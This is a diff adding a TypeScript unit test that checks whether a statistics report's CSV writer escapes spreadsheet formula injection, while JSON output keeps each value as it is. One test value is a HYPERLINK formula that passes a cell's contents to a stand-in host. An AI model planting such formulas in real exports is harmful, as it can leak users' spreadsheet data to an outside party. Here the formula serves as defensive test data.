@@ -1,0 +1,46 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { dayOf } from '../../src/statistics/days.ts';
+import type { ReportColumn } from '../../src/statistics/report-columns.ts';
+import { reportFormats } from '../../src/statistics/report-text.ts';
+import { noCounts } from '../../src/store/statistics-interface.ts';
+
+/** A report of one row with one column, as each format writes it. */
+async function written(format: 'csv' | 'json', value: string | number): Promise<string> {
+  const column: ReportColumn = { name: 'A', help: '', type: 'string', of: () => value };
+  async function* rows() {
+    yield [{ day: dayOf(0), subId: '', counts: noCounts }];
+  }
+  const { write } = reportFormats.get(format) ?? assert.fail(format);
+  return (await Array.fromAsync(write([column], rows()))).join('');
+}
+
+describe('a value in a report', () => {
+  const cases: readonly (readonly [what: string, value: string | number, csv: string])[] = [
+    ['a text', 'a', 'a'],
+    ['no text', '', ''],
+    ['a formula', '=1+1', "'=1+1"],
+    [
+      'a formula that calls',
+      '=HYPERLINK("http://a.example/?"&A1,"x")',
+      '"\'=HYPERLINK(""http://a.example/?""&A1,""x"")"',
+    ],
+    ['a plus', '+49', "'+49"],
+    ['a minus, which in a text is no number', '-1', "'-1"],
+    ['an at sign', '@SUM(A1)', "'@SUM(A1)"],
+    ['a tab', '\t=1', "'\t=1"],
+    ['a carriage return', '\r=1', '"\'\r=1"'],
+    ['the same signs further on', 'a=b+c-d@e', 'a=b+c-d@e'],
+    ['an apostrophe', "'a", "'a"],
+    ['a day', '2026-09-01', '2026-09-01'],
+    ['a number', 1.5, '1.5'],
+    ['a number below 0', -1, '-1'],
+    ['a small number', 1e-9, '0.000000001'],
+  ];
+  for (const [what, value, csv] of cases) {
+    test(`${what}: spreadsheets of CSV run nothing, and JSON has it as it is`, async () => {
+      assert.equal(await written('csv', value), `A\r\n${csv}\r\n`);
+      assert.deepEqual(JSON.parse(await written('json', value)), [{ A: value }]);
+    });
+  }
+});
